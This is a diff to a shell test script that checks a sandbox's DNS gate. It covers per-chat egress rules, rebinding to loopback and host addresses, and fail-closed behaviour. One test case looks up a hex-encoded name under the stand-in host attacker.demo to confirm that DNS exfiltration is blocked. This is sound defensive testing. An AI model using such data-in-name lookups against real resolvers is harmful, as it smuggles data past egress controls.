@@ -321,16 +321,20 @@ wait "$a_server" 2>/dev/null
 
 section "what chat A can look up (the DNS gate in chatcelld)"
 # A resolver of the sandbox's own on 127.0.0.10 (dnsmasq), which knows
-# api.demo (at 198.51.100.4, a documentation address on demo0) and any name
-# under attacker.demo; the gate is each cell's only resolver.
+# api.demo (at 198.51.100.4, a documentation address in a network
+# namespace routed from the sandbox: the gate never answers with an address
+# of the host's own) and any name under attacker.demo; the gate is each
+# cell's only resolver.
+. "$CC_SRCDIR/tests/lib/outside_net.sh"
 ip addr add 127.0.0.10/8 dev lo
-ip addr add 198.51.100.4/24 dev demo0
+start_outside 198.51.100.4
+ip addr add 198.51.100.77/32 dev lo # an address of the host's own (hostip.demo)
 mkfifo /run/demo-dns
 dnsmasq --keep-in-foreground --no-resolv --no-hosts --bind-interfaces --listen-address=127.0.0.10 \
 	--user=root --log-queries --log-facility=/run/demo-dns.log --address=/api.demo/198.51.100.4 \
-	--address=/attacker.demo/198.51.100.4 --host-record=loop.demo,127.0.0.1 &
+	--address=/attacker.demo/198.51.100.4 --host-record=loop.demo,127.0.0.1 --host-record=hostip.demo,198.51.100.77 &
 dnsmasq=$!
-/usr/bin/python3 "$CC_SRCDIR/tests/lib/listener.py" 198.51.100.4:8000/tcp >/run/demo-dns &
+nsenter --net="/proc/$OUTSIDE_PID/ns/net" /usr/bin/python3 "$CC_SRCDIR/tests/lib/listener.py" 198.51.100.4:8000/tcp >/run/demo-dns &
 listener=$!
 read -r _ </run/demo-dns
 printf 'dns_servers = 127.0.0.10\n' >>/etc/chatcell/chatcell.conf
@@ -339,6 +343,7 @@ gate=$!
 timeout 10 tail -n +1 -f /run/demo-chatcelld.log | grep -q -m1 'DNS gate on'
 say "  $(chatcell-admin egress allow "$chat_a_id" --domain api.demo --port 8000)"
 say "  $(chatcell-admin egress allow "$chat_a_id" --domain loop.demo --port 8000)"
+say "  $(chatcell-admin egress allow "$chat_a_id" --domain hostip.demo --port 8000)"
 lookup() { # CHAT NAME: getent in the chat's login session
 	chatcell-admin run "$1" -- /usr/bin/getent ahostsv4 "$2" | head -1 | grep . || { echo "no answer"; return 1; }
 }
@@ -348,10 +353,11 @@ expect denied "B looks up api.demo (no rule of B's: REFUSED)" lookup "$chat_b_id
 expect denied "A looks up 6c65616b.attacker.demo (data in a name: never forwarded)" lookup "$chat_a_id" 6c65616b.attacker.demo
 say "  the resolver's log mentions 6c65616b: $(grep -c 6c65616b /run/demo-dns.log) times"
 expect denied "A's loop.demo points at 127.0.0.1 (rebinding: dropped)" lookup "$chat_a_id" loop.demo
+expect denied "A's hostip.demo points at a public address of the host's own (dropped)" lookup "$chat_a_id" hostip.demo
 kill "$gate"
 wait "$gate" 2>/dev/null
 expect denied "with chatcelld stopped, A looks up api.demo (fails closed)" lookup "$chat_a_id" api.demo
-kill "$dnsmasq" "$listener"
+kill "$dnsmasq" "$listener" "$OUTSIDE_PID"
 
 section "deleting chat B"
 (
